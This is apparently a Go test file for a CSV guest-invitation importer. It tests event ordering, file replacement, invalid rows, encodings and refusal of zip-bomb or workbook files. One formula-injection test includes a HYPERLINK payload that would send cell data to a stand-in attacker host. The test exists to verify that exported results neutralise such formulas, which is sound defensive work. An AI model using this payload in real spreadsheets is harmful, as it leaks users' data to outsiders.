package main

import (
	"bytes"
	"fmt"
	"io"
	"slices"
	"strings"
	"sync/atomic"
	"testing"
	"time"
	"unicode/utf16"

	"guestlist/pkg/blobstore"
	"guestlist/pkg/ledger"
	"guestlist/pkg/local/entra"
	"guestlist/pkg/policy"
)

// opens has f stand between the handler and the files that it reads.
func (w *trial) opens(f opening) {
	w.mu.Lock()
	defer w.mu.Unlock()
	w.opened = f
}

// TestFault03SameBlobCreatedTwiceOrReplacedMidRead: the event comes five times, before, during and after the import, and
// the file is replaced while it is read.
func TestFault03SameBlobCreatedTwiceOrReplacedMidRead(t *testing.T) {
	t.Parallel()
	t.Run("twice", func(t *testing.T) {
		inTrial(t, setup{procs: 2}, func(w *trial) {
			etag := w.put("same.csv", []byte(everybody(10)))
			for range 3 {
				w.event("same.csv", "PutBlob", etag)
			}
			time.Sleep(20 * time.Second)
			w.event("same.csv", "PutBlockList", etag)
			w.promised(12*time.Hour, allOf(10))
			w.event("same.csv", "PutBlob", etag)
			w.promised(12*time.Hour, allOf(10))
		})
	})
	t.Run("replaced", func(t *testing.T) {
		inTrial(t, setup{procs: 2}, func(w *trial) {
			var replaced atomic.Bool
			w.opens(func(path string, r io.ReadCloser) (io.ReadCloser, error) {
				return &after{r, 100, func() {
					if replaced.CompareAndSwap(false, true) {
						w.drop(path, everybody(6))
					}
				}}, nil
			})
			first := w.drop("replaced.csv", everybody(6)+strings.ReplaceAll(strings.TrimPrefix(everybody(2000), csvHeader), "guest", "nobody"))
			w.promised(12*time.Hour, allOf(6))
			if i := w.state(first); i.State != ledger.Superseded || i.Code != "file.changed" {
				w.t.Errorf("the first version: %s %s", i.State, i.Code)
			}
		})
	})
}

// after calls f when n bytes have been read.
type after struct {
	io.ReadCloser
	left int
	f    func()
}

func (a *after) Read(p []byte) (int, error) {
	n, err := a.ReadCloser.Read(p)
	if a.left -= n; a.left <= 0 {
		a.f()
	}
	return n, err
}

// TestFault04OutOfOrderEvents: of two versions of a file the later one is told of first, and so are the events of an
// upload in parts.
func TestFault04OutOfOrderEvents(t *testing.T) {
	inTrial(t, setup{procs: 2}, func(w *trial) {
		old := w.put("order.csv", []byte(strings.ReplaceAll(everybody(3), "guest", "nobody")))
		now := w.put("order.csv", []byte(everybody(8)))
		w.event("order.csv", "FlushWithClose", now)
		w.event("order.csv", "CreateFile", old)
		w.event("order.csv", "SftpCreate", old)
		first := w.event("order.csv", "PutBlob", old)
		w.promised(12*time.Hour, allOf(8))
		if i := w.state(first); i.State != ledger.Superseded {
			w.t.Errorf("the older version: %s %s", i.State, i.Code)
		}
	})
}

// TestFault05CopyBlobEventBeforeContent: the event of a copy comes at its start. The file is not read before the copy has
// ended, minutes later, and its version is another one then.
func TestFault05CopyBlobEventBeforeContent(t *testing.T) {
	inTrial(t, setup{procs: 2}, func(w *trial) {
		w.opens(func(string, io.ReadCloser) (io.ReadCloser, error) { return nil, blobstore.ErrPending })
		began := w.event("copy.csv", "CopyBlob", w.put("copy.csv", nil))
		time.Sleep(5 * time.Minute)
		w.put("copy.csv", []byte(everybody(8)))
		w.opens(nil)
		w.promised(12*time.Hour, allOf(8))
		if i := w.state(began); i.State != ledger.Superseded {
			w.t.Errorf("the version at the start: %s %s", i.State, i.Code)
		}
	})
}

// TestFault18PoisonRows: each row that can never work ends with its code, and the others with access.
func TestFault18PoisonRows(t *testing.T) {
	no := false
	id := func(n int) string { return fmt.Sprintf("66666666-0000-4000-8000-%012d", n) }
	seed := entra.Seed{
		VerifiedDomains: []string{"contoso.onmicrosoft.com", "contoso.example"},
		Users: []entra.User{
			{ID: id(1), Mail: "member@partner.example"},
			{ID: id(2), Mail: "other@contoso.example", ProxyAddresses: []string{"SMTP:other@contoso.example", "smtp:proxy@partner.example"}},
			{ID: id(3), Mail: "disabled@partner.example", UserType: "Guest", AccountEnabled: &no},
			{ID: id(4), Mail: "two@partner.example", UserType: "Guest"},
			{ID: id(5), Mail: "second@partner.example", UserType: "Guest", ProxyAddresses: []string{"SMTP:second@partner.example", "smtp:two@partner.example"}},
		},
		Groups: []entra.Group{
			{ID: id(11), DisplayName: "List", Mail: "list@partner.example", MailEnabled: true, GroupTypes: []string{"Unified"}},
			{ID: id(12), DisplayName: "By rule", GroupTypes: []string{"DynamicMembership"}},
			{ID: id(13), DisplayName: "On premises", OnPremisesSyncEnabled: true},
			{ID: id(14), DisplayName: "Mail", MailEnabled: true, Mail: "mail@contoso.example"},
			{ID: id(15), DisplayName: "Admins", IsAssignableToRole: true},
		},
		Applications: []entra.Application{
			{AppID: id(21), ID: id(22), DisplayName: "Roles", AppRoles: []entra.AppRole{{ID: id(23), Value: "Reader"}}},
			{AppID: id(24), ID: id(25), DisplayName: "Microsoft's", AppOwnerOrganizationID: entra.MicrosoftOrganization},
		},
		Settings: entra.Settings{BlockedDomains: []string{"blocked.example"}},
	}
	allow := func(p *policy.Policy) {
		for n := 12; n <= 16; n++ {
			p.Groups = append(p.Groups, policy.Group{ID: id(n)})
		}
		p.Applications = append(p.Applications, policy.Application{ID: id(21)}, policy.Application{ID: id(24)}, policy.Application{ID: id(26)})
	}
	inTrial(t, setup{procs: 2, entra: entra.Config{Seed: seed}, policy: allow}, func(w *trial) {
		want := allOf(5)
		file := everybody(5)
		for address, code := range map[string]string{"no-at-sign": "email.invalid", "a+b@partner.example": "email.forbidden-character",
			"müller@partner.example": "email.not-ascii", "ana@münchen.example": "email.not-ascii", "member@partner.example": "member.exists",
			"proxy@partner.example": "member.exists", "list@partner.example": "invite.address-refused", "new@contoso.example": "invite.domain-verified",
			"disabled@partner.example": "guest.disabled", "two@partner.example": "guest.ambiguous", "x@blocked.example": "invite.domain-blocked"} {
			file += row(address)
			want[address] = code
		}
		target := func(address, app, group, code string) {
			file += fmt.Sprintf("%s,,,,%s,%s,,en\n", address, app, group)
			want[address] = code
		}
		target("dynamic@partner.example", "", id(12), "group.dynamic")
		target("synced@partner.example", "", id(13), "group.synced")
		target("mailed@partner.example", "", id(14), "group.mail-enabled")
		target("admins@partner.example", "", id(15), "group.role-assignable")
		target("unknown@partner.example", "", id(16), "group.unknown")
		target("forbidden@partner.example", "", id(17), "target.forbidden")
		target("role@partner.example", id(21), "", "application.role-missing")
		target("microsoft@partner.example", id(24), "", "application.microsoft")
		target("noapp@partner.example", id(26), "", "application.unknown")
		w.drop("poison.csv", file)
		w.promised(24*time.Hour, want)
	})
}

// utf16File is a file in UTF-16 with its mark.
func utf16File(s string, little bool) string {
	var b []byte
	for _, u := range utf16.Encode([]rune("\ufeff" + s)) {
		if little {
			b = append(b, byte(u), byte(u>>8))
		} else {
			b = append(b, byte(u>>8), byte(u))
		}
	}
	return string(b)
}

// TestFault19Formats: each way in which a file may be written is read, or ends with its code, as a whole or in its row.
func TestFault19Formats(t *testing.T) {
	t.Parallel()
	one := func(address, name string) string {
		return csvHeader + strings.Replace(row(address), ",,", ","+name+",", 1)
	}
	at := "@partner.example"
	for name, f := range map[string]struct {
		file string
		code string            // of the file
		want map[string]string // by address, with the code of a row
		name string            // as the directory then has it
	}{
		"utf8_bom":         {file: "\ufeff" + one("a"+at, "Zoë"), want: map[string]string{"a" + at: ""}, name: "Zoë"},
		"utf16_le":         {file: utf16File(one("a"+at, "Zoë"), true), want: map[string]string{"a" + at: ""}, name: "Zoë"},
		"utf16_be":         {file: utf16File(one("a"+at, "Zoë"), false), want: map[string]string{"a" + at: ""}, name: "Zoë"},
		"cp1252":           {file: one("a"+at, "Zo\xeb \x80"), want: map[string]string{"a" + at: ""}, name: "Zoë €"},
		"crlf":             {file: strings.ReplaceAll(everybody(3), "\n", "\r\n"), want: allOf(3)},
		"cr":               {file: strings.ReplaceAll(everybody(3), "\n", "\r"), want: allOf(3)},
		"nul":              {file: one("a"+at, "A\x00na"), code: "file.not-csv"},
		"nul_far_down":     {file: everybody(200) + row("a"+at) + strings.Replace(row("b"+at), ",,", ",B\x00o,", 1), want: with(allOf(200), "a"+at, "", "b"+at, "field.control-character")},
		"bare_quote":       {file: everybody(3) + strings.Replace(row("a"+at), ",,", ",A\"na,", 1), want: with(allOf(3), "a"+at, "row.bare-quote")},
		"a_field_of_1_mb":  {file: everybody(3) + strings.Replace(row("a"+at), ",,", ","+strings.Repeat("x", 1<<20)+",", 1), want: with(allOf(3), "a"+at, "row.too-long")},
		"ragged":           {file: csvHeader + "a" + at + ",,,," + wiki + "," + partners + "\n" + row("b"+at) + strings.TrimSuffix(row("c"+at), "\n") + ",more\n", want: map[string]string{"a" + at: "", "b" + at: "", "c" + at: "row.too-many-cells"}},
		"duplicate_header": {file: "Email,Email,InvitedToGroups\na" + at + ",b" + at + "," + partners + "\n", code: "file.duplicate-column"},
		"duplicate_rows":   {file: everybody(3) + strings.TrimPrefix(everybody(3), csvHeader) + strings.ToUpper(row(guestNo(1))), want: allOf(3)},
		"empty":            {file: "", code: "file.empty"},
		"header_only":      {file: csvHeader, code: "file.empty"},
	} {
		t.Run(name, func(t *testing.T) {
			inTrial(t, setup{}, func(w *trial) {
				id := w.drop(name+".csv", f.file)
				w.promised(12*time.Hour, f.want)
				i := w.state(id)
				if f.code != "" && (i.State != ledger.Refused || i.Code != f.code || i.Text == "" || i.Results == "") || f.code == "" && i.State != ledger.Running {
					w.t.Errorf("%s: %s %s %s", name, i.State, i.Code, i.Text)
				}
				if users := w.entra.State().Users; f.name != "" && (len(users) != 1 || users[0].DisplayName != f.name) {
					w.t.Errorf("%s: %+v", name, users)
				}
			})
		})
	}
}

// with adds pairs of address and code.
func with(want map[string]string, pairs ...string) map[string]string {
	for p := range slices.Chunk(pairs, 2) {
		want[p[0]] = p[1]
	}
	return want
}

// zeros is a file without an end after its first bytes; it counts what is read of it.
type zeros struct {
	head io.Reader
	n    atomic.Int64
}

func (z *zeros) Read(p []byte) (int, error) {
	n, err := z.head.Read(p)
	if err == io.EOF {
		clear(p)
		n, err = len(p), nil
	}
	z.n.Add(int64(n))
	return n, err
}

func (z *zeros) Close() error { return nil }

// TestFault20GzipZipBombAndRenamedWorkbook: each is refused as a whole, for its first bytes: however large it is, and
// whatever it would be unpacked, no more of it is read.
func TestFault20GzipZipBombAndRenamedWorkbook(t *testing.T) {
	t.Parallel()
	for name, f := range map[string]struct{ head, says string }{
		"gzip":     {"\x1f\x8b\x08\x00", "gzip"},
		"zip_bomb": {"PK\x03\x04\x14\x00", "zip archive"},
		"workbook": {"PK\x03\x04\x14\x00\x06\x00[Content_Types].xml", "Excel workbook"},
		"old_xls":  {"\xd0\xcf\x11\xe0", "old Excel workbook"},
	} {
		t.Run(name, func(t *testing.T) {
			inTrial(t, setup{}, func(w *trial) {
				bomb := &zeros{head: bytes.NewReader([]byte(f.head))}
				w.opens(func(string, io.ReadCloser) (io.ReadCloser, error) { return bomb, nil })
				id := w.drop(name+".csv", f.head)
				w.promised(12*time.Hour, nil)
				if i := w.state(id); i.State != ledger.Refused || i.Code != "file.not-csv" || !strings.Contains(i.Text, f.says) {
					w.t.Errorf("%s %s %s", i.State, i.Code, i.Text)
				}
				if n := bomb.n.Load(); n > 64<<10 {
					w.t.Errorf("%d bytes of it were read", n)
				}
			})
		})
	}
}

// TestFault21FormulaCells: no cell of the result files runs when a spreadsheet opens them, the directory gets what the
// file said, and rows that are corrected and dropped again are as they were.
func TestFault21FormulaCells(t *testing.T) {
	inTrial(t, setup{}, func(w *trial) {
		names := []string{"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", `=HYPERLINK("http://evil.example?"&A1)`, "'=1", "plain"}
		file, want := csvHeader, map[string]string{}
		for i, n := range names {
			cell := `"` + strings.ReplaceAll(n, `"`, `""`) + `"`
			file += fmt.Sprintf("good%d@partner.example,%s,,,%s,%s,,en\n", i, cell, wiki, partners)
			file += fmt.Sprintf("bad+%d@partner.example,%s,,,%s,%s,,en\n", i, cell, wiki, partners)
			want[fmt.Sprintf("good%d@partner.example", i)], want[fmt.Sprintf("bad+%d@partner.example", i)] = "", "email.forbidden-character"
		}
		id := w.drop("formulas.csv", file)
		w.promised(12*time.Hour, want)
		sum := w.summary(id)
		for _, path := range []string{sum.Result, sum.ToCorrect} {
			table := w.table(path)
			for _, r := range table {
				for _, cell := range r {
					if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
						w.t.Errorf("%s: a spreadsheet runs %q", path, cell)
					}
				}
			}
		}
		// A person corrects the addresses and drops the file again.
		w.drop("corrected.csv", strings.ReplaceAll(w.read("results", sum.ToCorrect), "bad+", "mended"))
		for i := range names {
			want[fmt.Sprintf("mended%d@partner.example", i)] = ""
		}
		w.promised(12*time.Hour, want)
		got := map[string]string{}
		for _, u := range w.entra.State().Users {
			got[u.Mail] = u.DisplayName
		}
		for i, n := range names {
			good, mended := got[fmt.Sprintf("good%d@partner.example", i)], got[fmt.Sprintf("mended%d@partner.example", i)]
			if good != strings.TrimPrefix(strings.TrimSpace(n), "'") || mended != good {
				w.t.Errorf("%q became %q, and %q when it was dropped again", n, good, mended)
			}
		}
	})
}
